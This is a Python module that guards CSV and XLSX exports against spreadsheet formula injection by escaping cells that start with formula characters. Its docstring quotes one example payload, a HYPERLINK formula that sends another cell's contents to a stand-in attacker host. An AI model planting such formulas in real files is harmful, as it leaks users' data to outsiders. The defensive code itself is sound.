"""Files that open in a spreadsheet: every cell goes through one guard against formula injection.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some spreadsheets skip
before reading one of those) runs as a formula when the file is opened: a contact who names himself
``=HYPERLINK("https://evil.example/?"&A2,"x")`` would plant a live link in his manager's sheet. Such a cell gets
a leading apostrophe, which spreadsheets show as text (OWASP's advice for CSV injection). A plain number ("-1.50",
or hours and minutes "-1:30") is no formula and stays as it is, so that a late correction's negative figures import
as numbers. Every export writes through :class:`SafeCsvWriter` or :func:`xlsx_bytes`; a test keeps ``csv.writer``
and the XLSX libraries out of the rest of the code.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(?:[.:]\d+)?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: object) -> str:
    """``value`` as the text of one cell, never read as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text) else text


class SafeCsvWriter:
    """``csv.writer`` whose every cell is :func:`safe_cell`; semicolons and a BOM, as Excel in Finland expects."""

    def __init__(self, stream: _Writable) -> None:
        stream.write("\ufeff")
        self._writer = csv.writer(stream, delimiter=";")

    def writerow(self, cells: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in cells])


@dataclass(frozen=True)
class Sheet:
    """One worksheet: a header row, then rows of text, whole numbers, ``Decimal`` amounts and dates."""

    title: str
    header: Sequence[str]
    rows: Iterable[Sequence[object]]


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    """An XLSX workbook of ``sheets``. Numbers and dates are typed cells (a ``Decimal`` shown with its own
    decimals, a date as YYYY-MM-DD); text is always written as text, never as a formula, and guarded like CSV
    cells. Rows go to disk as they come (XlsxWriter's constant memory mode), so a long sheet stays small."""
    output = io.BytesIO()
    # Imported here: the library is a few MB that the processes serving pages would otherwise keep for good.
    import xlsxwriter  # type: ignore[import-untyped]

    workbook = xlsxwriter.Workbook(output, {"constant_memory": True})
    bold = workbook.add_format({"bold": True})
    day = workbook.add_format({"num_format": "yyyy-mm-dd"})
    decimals: dict[int, Any] = {}
    for sheet in sheets:
        worksheet = workbook.add_worksheet(sheet.title[:31])
        for column, name in enumerate(sheet.header):
            worksheet.write_string(0, column, safe_cell(name), bold)
        worksheet.freeze_panes(1, 0)
        for row_number, row in enumerate(sheet.rows, start=1):
            for column, value in enumerate(row):
                if isinstance(value, bool):
                    worksheet.write_number(row_number, column, int(value))
                elif isinstance(value, Decimal):
                    places = max(0, -int(value.as_tuple().exponent))
                    if places not in decimals:
                        decimals[places] = workbook.add_format({"num_format": "0." + "0" * places if places else "0"})
                    worksheet.write_number(row_number, column, float(value), decimals[places])
                elif isinstance(value, int | float):
                    worksheet.write_number(row_number, column, value)
                elif isinstance(value, date):
                    worksheet.write_datetime(row_number, column, value, day)
                elif value is not None:
                    worksheet.write_string(row_number, column, safe_cell(value))
        worksheet.set_column(0, max(len(sheet.header) - 1, 0), 16)
    workbook.close()
    return output.getvalue()
